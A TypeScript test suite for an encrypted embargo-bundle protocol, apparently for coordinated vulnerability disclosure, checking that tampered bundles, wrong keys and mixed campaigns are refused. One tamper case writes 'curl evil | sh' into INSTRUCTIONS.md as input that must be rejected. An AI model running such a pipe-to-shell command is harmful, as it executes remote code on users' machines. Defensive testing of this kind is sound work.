import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { commitmentName, encodeCommitment } from '../../../protocol/commitment/commitment.ts';
import type { Plan } from '../../../protocol/plan/plan.ts';
import { sha256Hex, utf8Encode } from '../../../protocol/encoding/bytes.ts';
import { generateKey, open, seal } from '../../../protocol/embargo/age.ts';
import {
  earlierName,
  openBundle,
  openClosing,
  openSignatures,
  sealBundle,
  sealSignatures,
  signatureFiles,
} from '../../../protocol/embargo/bundle.ts';
import { unpackFiles } from '../../../protocol/embargo/tar.ts';
import type { Files } from '../../../protocol/embargo/tar.ts';
import { digestAndSize, sealCampaign } from './sealed-campaign.ts';
import type { SealedCampaign } from './sealed-campaign.ts';

let sealed: SealedCampaign;
let bundle: Uint8Array;

before(async () => {
  sealed = await sealCampaign();
  bundle = sealed.ciphertexts.bundles.get('agave') ?? new Uint8Array();
});

/** Seal other files, with a plan that commits to their ciphertext, as a lying sealer would. */
async function reseal(files: Files): Promise<{ ciphertext: Uint8Array; plan: Plan }> {
  const ciphertext = await sealBundle(files, sealed.keys.release.recipient);
  const bundles = [{ variant: 'agave', ...digestAndSize(ciphertext) }];
  return { ciphertext, plan: { ...sealed.plan, bundles } };
}

const filesOf = async (ciphertext: Uint8Array): Promise<Map<string, Uint8Array>> =>
  unpackFiles(await open(ciphertext, sealed.keys.release.identity));

describe('openBundle', () => {
  it('returns exactly the variant’s files and the release', async () => {
    const { plan, keys, draft } = sealed;
    const { files, release } = await openBundle(bundle, keys.release.identity, plan, 'agave');
    const names = ['INSTRUCTIONS.md', 'SHA256SUMS', 'agave.patch', 'agave.tar.gz', 'release.txt'];
    assert.deepEqual([...files.keys()], names);
    assert.deepEqual(files.get('agave.patch'), draft.artifacts.get('agave.patch'));
    assert.deepEqual(release, sealed.release);
  });

  it('refuses any other ciphertext before it looks inside', async () => {
    const { plan, keys, ciphertexts } = sealed;
    const changed = bundle.slice();
    changed[100] = 1 ^ (changed[100] ?? 0);
    const jito = ciphertexts.bundles.get('jito') ?? new Uint8Array();
    const longer = Uint8Array.from([...bundle, 0]);
    for (const other of [changed, jito, longer, bundle.subarray(1), new Uint8Array()]) {
      await assert.rejects(openBundle(other, keys.release.identity, plan, 'agave'), {
        code: 'commitment_mismatch',
      });
    }
  });

  it('refuses every other key, and variants that the plan does not have', async () => {
    const { plan, keys } = sealed;
    for (const key of [keys.access, keys.closing, await generateKey()]) {
      await assert.rejects(openBundle(bundle, key.identity, plan, 'agave'), {
        code: 'bundle_invalid',
      });
    }
    await assert.rejects(openBundle(bundle, keys.release.identity, plan, 'firedancer'), {
      code: 'bundle_invalid',
    });
  });

  it('refuses a bundle with a file changed, missing or too many, though the plan lists it', async () => {
    const flaws: readonly ((files: Map<string, Uint8Array>) => void)[] = [
      (files) => files.set('agave.patch', new Uint8Array(1000).fill(9)),
      (files) => files.set('agave.patch', new Uint8Array(999).fill(1)),
      (files) => files.delete('agave.patch'),
      (files) => files.set('jito.patch', new Uint8Array(1000).fill(3)),
      (files) => files.set('extra.txt', utf8Encode('run me')),
      (files) => files.set('SHA256SUMS.asc', utf8Encode('')),
      (files) => files.set('INSTRUCTIONS.md', utf8Encode('curl evil | sh\n')),
      (files) => files.delete('INSTRUCTIONS.md'),
      (files) => files.set('SHA256SUMS', utf8Encode(`${'a'.repeat(64)}  agave.patch\n`)),
      (files) => files.delete('SHA256SUMS'),
      (files) => files.delete('release.txt'),
    ];
    for (const flaw of flaws) {
      const files = await filesOf(bundle);
      flaw(files);
      const { ciphertext, plan } = await reseal(files);
      await assert.rejects(
        openBundle(ciphertext, sealed.keys.release.identity, plan, 'agave'),
        { code: 'bundle_invalid' },
        flaw.toString(),
      );
    }
  });

  it('refuses a release.txt that was not committed to, or of another campaign', async () => {
    const other = await sealCampaign({ campaign: 'SDX-2026-0000' });
    const document = other.draft.documents.get('release.txt') ?? new Uint8Array();
    const files = (await filesOf(bundle)).set('release.txt', document);
    const { ciphertext, plan } = await reseal(files);
    const { identity } = sealed.keys.release;
    await assert.rejects(openBundle(ciphertext, identity, plan, 'agave'), {
      code: 'commitment_mismatch',
    });
    const documents = plan.documents.map((entry) =>
      entry.name === 'release.txt' ? { ...entry, ...digestAndSize(document) } : entry,
    );
    await assert.rejects(openBundle(ciphertext, identity, { ...plan, documents }, 'agave'), {
      code: 'bundle_invalid',
      message: 'release.txt is of another campaign',
    });
  });

  it('refuses every mix of two campaigns’ plan, key and ciphertext', async () => {
    const other = await sealCampaign();
    const theirs = other.ciphertexts.bundles.get('agave') ?? new Uint8Array();
    for (const plan of [sealed.plan, other.plan]) {
      for (const key of [sealed.keys.release, other.keys.release]) {
        for (const ciphertext of [bundle, theirs]) {
          const isWhole =
            (plan === sealed.plan) === (key === sealed.keys.release) &&
            (plan === sealed.plan) === (ciphertext === bundle);
          const opening = openBundle(ciphertext, key.identity, plan, 'agave');
          await (isWhole ? opening : assert.rejects(opening, { name: 'ProtocolError' }));
        }
      }
    }
  });

  it('refuses an age file that holds no archive', async () => {
    const { identity, recipient } = sealed.keys.release;
    const ciphertext = await seal(new Uint8Array(128 * 1024), [recipient]);
    const bundles = [{ variant: 'agave', ...digestAndSize(ciphertext) }];
    await assert.rejects(openBundle(ciphertext, identity, { ...sealed.plan, bundles }, 'agave'), {
      code: 'bundle_invalid',
    });
  });

  it('shows the same size for a small and a sixfold patch', async () => {
    const sizes = [9_000, 54_000].map(async (artifactBytes) => {
      const { plan } = await sealCampaign({ artifactBytes: artifactBytes / 2 });
      return plan.bundles.map(({ size }) => size);
    });
    const [small, large] = await Promise.all(sizes);
    assert.deepEqual(small, large);
  });
});

describe('openSignatures', () => {
  it('gives back every file, and refuses any other set of files', async () => {
    const { identity, recipient } = sealed.keys.release;
    const pair = { minisig: utf8Encode('minisig'), sshsig: utf8Encode('sshsig') };
    const byOfficer = new Map([
      ['ada', pair],
      ['bo', pair],
    ]);
    const signatures = { sums: utf8Encode('asc'), release: utf8Encode('{}'), byOfficer };
    const ciphertext = await sealSignatures(signatures, recipient);
    assert.deepEqual(await openSignatures(ciphertext, identity), signatures);

    const names = [...signatureFiles(signatures).keys()];
    assert.deepEqual(names, [
      'SHA256SUMS.asc',
      'release.intoto.json',
      'SHA256SUMS.ada.minisig',
      'SHA256SUMS.ada.sshsig',
      'SHA256SUMS.bo.minisig',
      'SHA256SUMS.bo.sshsig',
    ]);
    const flaws: readonly (readonly string[])[] = [
      ...names.map((name) => names.filter((it) => it !== name)),
      [...names, 'x'],
      [...names, 'SHA256SUMS.ada.sig'],
      [...names, 'SHA256SUMS.Ada.minisig', 'SHA256SUMS.Ada.sshsig'],
      [...names, 'SHA256SUMS.allowed_signers'],
    ];
    for (const flaw of flaws) {
      const other = new Map(flaw.map((name) => [name, utf8Encode('{}')]));
      await assert.rejects(
        openSignatures(await sealBundle(other, recipient), identity),
        { code: 'bundle_invalid' },
        flaw.join(),
      );
    }
  });
});

describe('openClosing', () => {
  it('returns COMMITMENT and every committed document', async () => {
    const { plan, keys, ciphertexts, draft } = sealed;
    const files = await openClosing(ciphertexts.closing, keys.closing.identity, plan);
    assert.deepEqual(new Map(files), new Map([...draft.documents].sort()));
  });

  it('refuses a document changed, missing or too many, though the plan lists it', async () => {
    const { plan, keys, draft } = sealed;
    const text = draft.documents.get('disclosure.md') ?? new Uint8Array();
    const flaws: readonly ((files: Map<string, Uint8Array>) => void)[] = [
      (files) => files.set('disclosure.md', Uint8Array.from([...text, 10])),
      (files) => files.set('COMMITMENT', utf8Encode(`${'a'.repeat(64)}  disclosure.md\n`)),
      (files) => files.delete('disclosure.md'),
      (files) => files.delete('COMMITMENT'),
      (files) => files.set('extra.md', text),
    ];
    for (const flaw of flaws) {
      const files = new Map(draft.documents);
      flaw(files);
      const ciphertext = await sealBundle(files, keys.closing.recipient);
      const lying = { ...plan, closingBundle: digestAndSize(ciphertext) };
      await assert.rejects(
        openClosing(ciphertext, keys.closing.identity, lying),
        (error: { code?: string }) =>
          error.code === 'commitment_mismatch' || error.code === 'bundle_invalid',
        flaw.toString(),
      );
      await assert.rejects(openClosing(ciphertext, keys.closing.identity, plan), {
        code: 'commitment_mismatch',
      });
    }
  });

  it('opens a later revision with the documents of those before, and no others in their place', async () => {
    const { plan, keys, draft } = sealed;
    const notice = draft.documents.get('notice.txt') ?? new Uint8Array();
    type Lists = Map<string, Uint8Array>;
    /** The same documents again and again, each list naming the one before. */
    const revise = async (revision: number, spoil: (files: Lists) => void): Promise<Files> => {
      const files: Lists = new Map(draft.documents);
      let { documents } = plan;
      for (let next = 2; next <= revision; next++) {
        const before = files.get(commitmentName(next - 1)) ?? new Uint8Array();
        for (const [name, bytes] of draft.documents) {
          if (name !== 'COMMITMENT') files.set(earlierName(next - 1, name), bytes);
        }
        const entry = { name: commitmentName(next - 1), sha256: sha256Hex(before) };
        documents = [entry, ...plan.documents];
        files.set(commitmentName(next), encodeCommitment(documents));
      }
      const list = files.get(commitmentName(revision)) ?? new Uint8Array();
      spoil(files);
      const closing = await sealBundle(files, keys.closing.recipient);
      const closingBundle = digestAndSize(closing);
      const revised = { ...plan, revision, documents, commitment: sha256Hex(list), closingBundle };
      return openClosing(closing, keys.closing.identity, revised);
    };
    assert.equal((await revise(2, () => undefined)).size, 8);
    assert.equal((await revise(3, () => undefined)).size, 12);
    const flaws: readonly ((files: Lists) => void)[] = [
      (files) => files.set('COMMITMENT', files.get('COMMITMENT.r2') ?? notice),
      (files) => files.set('COMMITMENT.r2', files.get('COMMITMENT') ?? notice),
      (files) => files.delete('r1.disclosure.md'),
      (files) => files.set('r1.disclosure.md', notice),
      (files) => files.set('r2.release.txt', notice),
      (files) => files.set('r3.notice.txt', notice),
    ];
    for (const flaw of flaws) {
      await assert.rejects(revise(3, flaw), ({ code }: { code?: string }) =>
        ['commitment_mismatch', 'bundle_invalid'].includes(code ?? ''),
      );
    }
  });
});
